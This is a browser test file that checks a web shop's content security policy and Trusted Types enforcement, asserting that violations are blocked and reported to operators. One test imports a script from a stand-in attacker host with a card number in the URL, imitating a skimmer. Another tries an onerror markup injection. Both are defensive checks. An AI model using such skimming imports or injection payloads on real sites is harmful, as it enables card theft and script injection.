/** The content security policy in a real Chromium: violations are reported, so that `stageOfFile` sees those of every page. */
import type { Page } from 'puppeteer-core';
import { describe, expect, it } from 'vitest';
import { eventually } from '@driveaway/domain/testing/eventually.ts';
import { stageOfFile } from './stage.ts';

const stage = stageOfFile();

const told = (): readonly string[] => stage().blockedByPolicy();

const visit = async (path: string): Promise<Page> => {
  const page = await stage().newVisitor();
  await page.evaluateOnNewDocument(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      document.documentElement.dataset['blocked'] = `${effectiveDirective} ${blockedURI}`;
    });
  });
  await page.goto(`${stage().product.url}${path}`, { waitUntil: 'networkidle0' });
  await page.waitForSelector('h1');
  return page;
};

const blockedOn = (page: Page): Promise<string | undefined> =>
  page.evaluate(() => document.documentElement.dataset['blocked']);

describe('the policy of a page', () => {
  it('blocks a script of somebody else in the ordering area, and operators hear of it (row 93)', async () => {
    const page = await visit('/build-your-own/account/login');
    expect(await blockedOn(page)).toBeUndefined();
    await page.evaluate(`import('https://evil.example/tag.js?card=4444333322221111').catch(() => undefined)`);
    await eventually(() => expect(told().join()).toContain('"blocked":"https://evil.example"'));
    expect(stage().product.output()).not.toContain('4444333322221111');
    expect(await blockedOn(page)).toContain('script-src-elem');
  });

  it('lets no text become a script, an address of one or markup, and operators hear of it (row 93)', async () => {
    const page = await visit('/build-your-own/account/login');
    const refused = await page.evaluate(() => {
      const fails = (attempt: () => unknown): boolean => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      };
      const script = document.createElement('script');
      return [
        () => (script.src = '/assets/any.js'),
        () => (script.text = 'globalThis.ran = true'),
        () => (document.createElement('div').innerHTML = '<img src="/x.png" onerror="ran = true">'),
        () =>
          Reflect.apply(
            Reflect.get(Object(Reflect.get(window, 'trustedTypes')), 'createPolicy'),
            Reflect.get(window, 'trustedTypes'),
            ['mine', {}],
          ),
      ].map(fails);
    });
    expect(refused).toEqual([true, true, true, true]);
    await eventually(() => {
      for (const directive of ['require-trusted-types-for', 'trusted-types']) {
        expect(told().join()).toContain(`"directive":"${directive}"`);
      }
    });
  });
});
